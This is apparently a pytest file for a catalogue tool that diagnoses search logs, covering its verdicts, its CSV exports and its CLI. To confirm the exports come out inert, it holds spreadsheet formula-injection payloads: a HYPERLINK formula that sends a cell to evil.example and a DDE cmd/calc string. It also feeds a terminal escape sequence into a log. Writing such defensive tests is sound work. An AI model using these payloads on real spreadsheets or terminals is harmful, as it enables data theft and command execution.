"""Search-log diagnosis on hand-made vectors and hand-made products, on both backends: each verdict where it is
known (found, words, gap), the order, the suggested words, the products listed, a reference's closest products,
drafts, and the CSV exports (formula injection included); then the CLI end to end on an index the CLI built."""

from __future__ import annotations

import csv
import io
import json
import math

import numpy as np
import pytest

from core.cli import main
from core.common.errors import BadQuery, ModelMismatch
from core.common.filters import Filters
from core.common.fields import LOOKUP_KEYS, STANDARD_FILTERS, STATUS, TERMS, Schema
from core.curation.export import EXCEL_BOM
from core.index.keywords import keyword_document, lookup_keys
from core.index.store import EdgeStore, ServerStore, StoredPoint, point_id
from core.ingest.search_log import LoggedQuery, read_search_log
from core.insights.gaps import MATCH_THRESHOLD
from core.insights.searchlog import (GAPS_HEADER, MAX_TEXT_CHARS, NO_WORDS, SYNONYMS_HEADER, TEXT_MATCH_THRESHOLD,
                                     THRESHOLD_WHY, Diagnosis, ProductMatch, default_view, diagnose, gaps_csv, summary,
                                     synonyms_csv)
from tests.conftest import write_catalog

DIM = 4
#          id   title                    photo vector           status
PRODUCTS = [("1", "Swim Shirt",            (1, 0, 0, 0),          "active"),
            ("2", "Blue Swim Shirt UV",    (0.9, 0.435890, 0, 0), "active"),
            ("3", "Levi's 501 Jeans",      (0, 1, 0, 0),          "active"),
            ("4", "Rashguard",             (1, 0, 0, 0),          "draft"),
            ("5", "Wool Coat",             (0, 0, 1, 0),          None),
            ("6", "Levi's 511 Slim Jeans", (0, 0.8, 0.6, 0),      "active")]
LONG_QUERY = ("levis jeans " * 1000)[:10_000]
QUERIES = {"UV Rashguard": (1, 0, 0, 0), "rashguard": (1, 0, 0, 0), "levis jeans": (0, 1, 0, 0),
           "ski helmet": (0.1, 0, 0.2, 0.975), "!!! the ...": (0, 0, 1, 0), LONG_QUERY[:MAX_TEXT_CHARS]: (0, 1, 0, 0)}
REFERENCE = [("R1", "Ski Helmet", (0, 0, 0, 1)), ("R2", "Wool Hat", (0, 0, 1, 0))]
THRESHOLD = 0.5


def unit(v):
    v = np.asarray(v, dtype=np.float32)
    return v / np.linalg.norm(v)


class HandEncoder:
    """A QueryEncoder whose text vectors are known exactly (by lookup); it records every batch it was given."""

    name, dim, image_size = "hand-made", DIM, None

    def __init__(self, more=None):
        self.batches = []
        self.vectors = {**QUERIES, **(more or {})}

    def encode_texts(self, texts, batch_size=64):
        self.batches.append(list(texts))
        return np.stack([unit(self.vectors[t]) for t in texts])


def hand_point(pid, title, vector, status=None):
    payload = {"product_id": pid, "title": title, **({"status": status} if status else {})}
    document = keyword_document(payload)
    payload.update({TERMS: list(document.terms), LOOKUP_KEYS: lookup_keys(payload)})
    return StoredPoint(point_id(pid), {"image": unit(vector), "text": unit(vector), "keywords": document}, payload)


@pytest.fixture
def products(store):
    store.ensure(HandEncoder.name, DIM)
    store.add_fields(Schema(keyword=(*STANDARD_FILTERS, STATUS)))  # as the indexer does for a catalogue with a status
    store.upsert([hand_point(*p) for p in PRODUCTS])
    return store


@pytest.fixture
def reference(store, tmp_path):
    """A reference catalogue's store, on the same backend as `store`."""
    ref = EdgeStore(tmp_path / "reference") if isinstance(store, EdgeStore) else ServerStore.connect(":memory:")
    ref.ensure(HandEncoder.name, DIM)
    ref.upsert([hand_point(*p) for p in REFERENCE])
    yield ref
    ref.close()


LOG = [LoggedQuery("levis jeans", 40), LoggedQuery("UV Rashguard", 12), LoggedQuery("rashguard", 30),
       LoggedQuery("ski helmet", 7), LoggedQuery("!!! the ...", 3)]


def by_query(diagnoses):
    return {d.query: d for d in diagnoses}


def test_each_verdict_keyword_hits_and_best_match_on_hand_made_products(products):
    found = by_query(diagnose(products, HandEncoder(), LOG, threshold=THRESHOLD))
    jeans = found["levis jeans"]  # both Levi's hold "levi" and "jean" (Levi's = Levis, jeans = jean)
    assert (jeans.verdict, jeans.keyword_hits, jeans.best_id, round(jeans.best_similarity, 4)) == ("found", 2, "3", 1.0)
    assert [p.product_id for p in jeans.products] == ["3", "6"]  # BM25: the shorter title first
    assert jeans.suggested_words == []
    uv = found["UV Rashguard"]  # no visible product holds "rashguard" (the draft does): found by meaning
    assert (uv.verdict, uv.keyword_hits, uv.best_id, round(uv.best_similarity, 4)) == ("words", 0, "1", 1.0)
    assert [(p.product_id, round(p.similarity, 4), p.lacks) for p in uv.products] == \
        [("1", 1.0, ["UV", "Rashguard"]), ("2", 0.9, ["Rashguard"])]
    assert uv.suggested_words == ["Rashguard", "UV"]  # lacked by both, then by one; as typed
    helmet = found["ski helmet"]  # nothing of ours means it: the closest by meaning, all below the threshold
    assert (helmet.verdict, helmet.keyword_hits, helmet.best_id) == ("gap", 0, "5")
    assert math.isclose(helmet.best_similarity, 0.2 / math.sqrt(1.000625), abs_tol=1e-5)
    assert [p.product_id for p in helmet.products] == ["5", "6", "1", "2", "3"]
    assert helmet.suggested_words == [] and helmet.reference_products is None


def test_order_is_gap_words_found_then_most_searched_then_query(products):
    log = [*LOG, LoggedQuery("apple", 12)]  # "apple" ties "UV Rashguard" on count: by query, "UV..." sorts first
    diagnoses = diagnose(products, HandEncoder({"apple": (0.2, 0, 0, 0.98)}), log, threshold=THRESHOLD)  # ~0.2: gap
    assert [(d.verdict, d.query, d.count) for d in diagnoses] == [
        ("gap", "apple", 12), ("gap", "ski helmet", 7),
        ("words", "rashguard", 30), ("words", "UV Rashguard", 12), ("words", "!!! the ...", 3),
        ("found", "levis jeans", 40)]
    assert summary(diagnoses) == {"gap": {"queries": 2, "searches": 19}, "words": {"queries": 3, "searches": 45},
                                  "found": {"queries": 1, "searches": 40}}


def test_a_query_of_punctuation_and_stop_words_is_judged_by_meaning_alone(products):
    [d] = diagnose(products, HandEncoder(), [("!!! the ...", 3)], threshold=THRESHOLD)
    assert (d.verdict, d.keyword_hits, d.best_id, d.suggested_words, d.notes) == ("words", 0, "5", [], [NO_WORDS])
    assert [(p.product_id, p.lacks) for p in d.products] == [("5", []), ("6", [])]


def test_drafts_count_only_with_show_hidden(products):
    [hidden] = diagnose(products, HandEncoder(), ["rashguard"], threshold=THRESHOLD)
    assert (hidden.verdict, hidden.keyword_hits) == ("words", 0)
    assert "4" not in [p.product_id for p in hidden.products]
    [shown] = diagnose(products, HandEncoder(), ["rashguard"], threshold=THRESHOLD, show_hidden=True)
    assert (shown.verdict, shown.keyword_hits, [p.product_id for p in shown.products]) == ("found", 1, ["4"])


def test_the_default_view_filters_on_status_only_where_the_index_has_a_status(products, tmp_path):
    assert default_view(products) == Filters().visible() and default_view(products, show_hidden=True) == Filters()
    plain = EdgeStore(tmp_path / "no-status")
    try:
        plain.ensure(HandEncoder.name, DIM)  # a catalogue without a status column: no product has one
        assert default_view(plain) == Filters()
    finally:
        plain.close()


def test_the_threshold_moves_words_to_gap(products):
    [d] = diagnose(products, HandEncoder(), ["UV Rashguard"], threshold=1.0)
    assert d.verdict == "words"  # product 1 is exactly the query's vector (1.0 >= 1.0)
    [d] = diagnose(products, HandEncoder(), ["ski helmet"], threshold=0.19)
    assert (d.verdict, [p.product_id for p in d.products]) == ("words", ["5"])


def test_a_gap_names_the_closest_reference_products(products, reference):
    diagnoses = by_query(diagnose(products, HandEncoder(), LOG, threshold=THRESHOLD, reference=reference))
    helmet = diagnoses["ski helmet"]
    assert [(p.product_id, p.title, round(p.similarity, 4)) for p in helmet.reference_products] == \
        [("R1", "Ski Helmet", 0.9747), ("R2", "Wool Hat", 0.1999)]
    assert helmet.as_dict()["reference_products"][0]["product_id"] == "R1"
    for query in ("levis jeans", "UV Rashguard"):  # only gaps look for reference products
        assert diagnoses[query].reference_products is None
        assert "reference_products" not in diagnoses[query].as_dict()


def test_json_has_the_issues_keys_exactly(products):
    diagnoses = diagnose(products, HandEncoder(), LOG, threshold=THRESHOLD)
    keys = {"query", "count", "keyword_hits", "best_id", "best_similarity", "verdict", "suggested_words", "products"}
    assert all(set(d.as_dict()) == keys for d in diagnoses)
    words = by_query(diagnoses)["UV Rashguard"].as_dict()
    assert json.loads(json.dumps(words))["products"][1] == {"product_id": "2", "title": "Blue Swim Shirt UV",
                                                           "similarity": 0.9, "lacks": ["Rashguard"]}


def test_a_query_of_ten_thousand_characters_is_read_in_bounds(products):
    encoder = HandEncoder()
    [d] = diagnose(products, encoder, [(LONG_QUERY, 2)], threshold=THRESHOLD)
    assert len(d.query) == 10_000 and d.count == 2  # reported whole
    assert (d.verdict, d.keyword_hits) == ("found", 2)  # its words: levi, jean
    assert [len(t) for batch in encoder.batches for t in batch] == [MAX_TEXT_CHARS]  # CLIP is given its start


def test_queries_are_encoded_in_batches_and_matched_per_chunk(products, monkeypatch):
    import core.insights.searchlog as searchlog

    monkeypatch.setattr(searchlog, "CHUNK", 2)
    calls = []
    real = type(products).query_batch

    def counted(self, queries, *args, **kwargs):
        calls.append(len(queries))
        return real(self, queries, *args, **kwargs)

    monkeypatch.setattr(type(products), "query_batch", counted)
    encoder, progress = HandEncoder(), []
    diagnose(products, encoder, LOG, threshold=THRESHOLD, progress=lambda done, total: progress.append((done, total)))
    assert [len(b) for b in encoder.batches] == [2, 2, 1] and calls == [2, 2, 1]
    assert progress == [(0, 5), (2, 5), (4, 5), (5, 5)]


def test_same_query_spelt_twice_is_one_query_with_the_counts_summed(products):
    diagnoses = diagnose(products, HandEncoder(), [("levis jeans", 4), ("  Levis   JEANS ", 5)], threshold=THRESHOLD)
    assert [(d.query, d.count) for d in diagnoses] == [("levis jeans", 9)]


def test_bad_threshold_and_another_model_are_refused(products):
    with pytest.raises(BadQuery, match="between 0 and 1"):
        diagnose(products, HandEncoder(), LOG, threshold=1.5)
    other = HandEncoder()
    other.name = "another-model"
    with pytest.raises(ModelMismatch):
        diagnose(products, other, LOG)


def test_the_default_threshold_is_a_text_to_photo_one_not_the_gaps_pages():
    # The Gaps page compares photos (0.8); a text and a photo of the same thing score about 0.25-0.35 in CLIP.
    assert TEXT_MATCH_THRESHOLD == 0.25 and TEXT_MATCH_THRESHOLD < MATCH_THRESHOLD


def test_searchlog_help_says_why_the_default_threshold_is_not_the_gaps_pages(capsys):
    with pytest.raises(SystemExit):
        main(["searchlog", "--help"])
    help_text = " ".join(capsys.readouterr().out.split())  # argparse wraps the lines
    assert THRESHOLD_WHY in help_text
    assert THRESHOLD_WHY == ("the default, 0.25, is lower than the Gaps page's 0.8 because that one compares a photo "
                             "with a photo; a query's text and a photo of what it names score about 0.25 to 0.35, an "
                             "unrelated pair about 0.10 to 0.20")
    assert f"{MATCH_THRESHOLD}" in THRESHOLD_WHY


# ---- CSV exports ----

def rows_of(text: str) -> list[list[str]]:
    assert text.startswith(EXCEL_BOM)
    return list(csv.reader(io.StringIO(text[len(EXCEL_BOM):])))


def test_synonyms_and_gaps_csv_list_their_verdicts(products, reference):
    diagnoses = diagnose(products, HandEncoder(), LOG, threshold=THRESHOLD, reference=reference)
    assert rows_of(synonyms_csv(diagnoses)) == [
        list(SYNONYMS_HEADER),
        ["rashguard", "30", "rashguard", "1 Swim Shirt (lacks: rashguard); 2 Blue Swim Shirt UV (lacks: rashguard)"],
        ["UV Rashguard", "12", "Rashguard; UV",
         "1 Swim Shirt (lacks: UV, Rashguard); 2 Blue Swim Shirt UV (lacks: Rashguard)"],
        ["!!! the ...", "3", "", "5 Wool Coat (lacks: -); 6 Levi's 511 Slim Jeans (lacks: -)"]]
    assert rows_of(gaps_csv(diagnoses)) == [
        list(GAPS_HEADER),
        ["ski helmet", "7", "0.1999", "5 Wool Coat (0.1999); 6 Levi's 511 Slim Jeans (0.1200); 1 Swim Shirt (0.1000); "
                                      "2 Blue Swim Shirt UV (0.0900); 3 Levi's 501 Jeans (0.0000)",
         "R1 Ski Helmet (0.9747); R2 Wool Hat (0.1999)"]]


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "+1"]


@pytest.mark.parametrize("verdict,export", [("words", synonyms_csv), ("gap", gaps_csv)])
def test_formula_injection_in_queries_and_titles_comes_out_inert(verdict, export):
    diagnoses = [Diagnosis(q, 1, 0, "=1+1", 0.3, verdict, ["=cmd"] if verdict == "words" else [],
                           [ProductMatch("@id", "=TITLE()", 0.3, ["=cmd"])]) for q in HOSTILE]
    rows = rows_of(export(diagnoses))[1:]
    assert [r[0] for r in rows] == ["'" + q for q in HOSTILE[:4]] + ["+1"]  # "+1" is a plain number: it runs nothing
    assert all(cell == "" or not cell.startswith(("=", "+", "-", "@")) for r in rows[:4] for cell in r)
    assert rows[0][2 if verdict == "words" else 3].startswith("'")


# ---- the CLI on an index the CLI built (the tiny random CLIP) ----

def test_cli_searchlog_json_end_to_end(settings, tmp_path, capsys):
    catalog = write_catalog(tmp_path / "c")
    assert main(["index", "--catalog", str(catalog), "--json"]) == 0
    capsys.readouterr()
    log = tmp_path / "log.csv"
    log.write_text("# GA4 report\n# Start date: 20240101\nSearch term,Event count\nred dress,\"1,204\"\n"
                   "Red  Dress,6\nrashguard,30\n!!!,2\n,9\n", encoding="utf-8")
    assert main(["searchlog", "--log", str(log), "--threshold", "1", "--json"]) == 0
    out = json.loads(capsys.readouterr().out)
    # threshold 1: nothing matches by meaning, so every query without a keyword hit is a gap
    assert [(d["query"], d["count"], d["verdict"], d["keyword_hits"]) for d in out] == [
        ("rashguard", 30, "gap", 0), ("!!!", 2, "gap", 0), ("red dress", 1210, "found", 1)]
    assert out[2]["products"][0]["product_id"] == "1" and out[2]["suggested_words"] == []
    assert all(d["best_id"] in {"1", "2", "3", "4", "5", "6"} and -1 <= d["best_similarity"] <= 1 for d in out)
    assert main(["reference", "add", "comp", "--catalog", str(catalog), "--json"]) == 0
    capsys.readouterr()
    assert main(["searchlog", "--log", str(log), "--threshold", "1", "--reference", "comp", "--json"]) == 0
    with_reference = json.loads(capsys.readouterr().out)
    # each gap names the reference's closest 5 (of its 6 products); a found query names none
    assert [len(d["reference_products"]) if "reference_products" in d else None for d in with_reference] == \
        [5, 5, None]
    assert {p["product_id"] for p in with_reference[0]["reference_products"]} <= {"1", "2", "3", "4", "5", "6"}
    assert main(["searchlog", "--log", str(log), "--columns", "query=search term,count=event count",
                 "--threshold", "1"]) == 0
    text = capsys.readouterr().out
    assert "gaps: we don't stock it: 2 queries, 32 searches" in text
    assert "found: our keywords find it: 1 query, 1,210 searches" in text


def test_cli_searchlog_errors_are_one_line(settings, tmp_path, capsys):
    log = tmp_path / "log.csv"
    log.write_text("Date,Visitors\n2024-01-01,5\n", encoding="utf-8")
    assert main(["searchlog", "--log", str(log)]) == 2
    err = capsys.readouterr().err.strip()
    assert err == ("error: the search log has no query column (Search term, Search query, Query...); 2 column(s) "
                   "found (comma-separated): Date, Visitors; name the query column with --columns query=COLUMN")
    log.write_text("Query,Searches\nhat,many\n", encoding="utf-8")
    assert main(["searchlog", "--log", str(log)]) == 2
    assert capsys.readouterr().err.strip() == (
        f"error: search log {log}: column 'Searches' holds no search counts (row 2: Searches 'many' is not a whole "
        "number of searches); name the count column with --columns count=COLUMN, or leave the count out with a file "
        "of queries alone")
    assert main(["searchlog", "--log", str(log), "--columns", "query=Phrase"]) == 2
    assert capsys.readouterr().err.strip() == (
        "error: the search log has no column 'Phrase' for the query; 2 column(s) found (comma-separated): Query, "
        "Searches; name the query column with --columns query=COLUMN")
    log.write_text("Query\nx\n", encoding="utf-8")
    assert main(["searchlog", "--log", str(log)]) == 2  # no index yet
    assert capsys.readouterr().err.strip() == (
        "error: there is no index yet: run `python -m core index --catalog <csv>` first")
    assert main(["searchlog", "--log", str(log), "--threshold", "2"]) == 2
    assert "threshold must be between 0 and 1" in capsys.readouterr().err


def test_cli_text_output_shows_control_characters_as_escapes(settings, tmp_path, capsys):
    catalog = write_catalog(tmp_path / "c")
    assert main(["index", "--catalog", str(catalog), "--json"]) == 0
    capsys.readouterr()
    log = tmp_path / "log.csv"
    log.write_bytes("Query\n\"\x1b]0;owned\x07red\"\n".encode())
    assert main(["searchlog", "--log", str(log)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;owned\\x07red" in out


def test_read_search_log_feeds_diagnose(products, tmp_path):
    log = tmp_path / "shopify.csv"
    log.write_text("Search query,Searches\nUV Rashguard,12\nski helmet,7\n", encoding="utf-8")
    diagnoses = diagnose(products, HandEncoder(), read_search_log(log), threshold=THRESHOLD)
    assert [(d.query, d.verdict) for d in diagnoses] == [("ski helmet", "gap"), ("UV Rashguard", "words")]
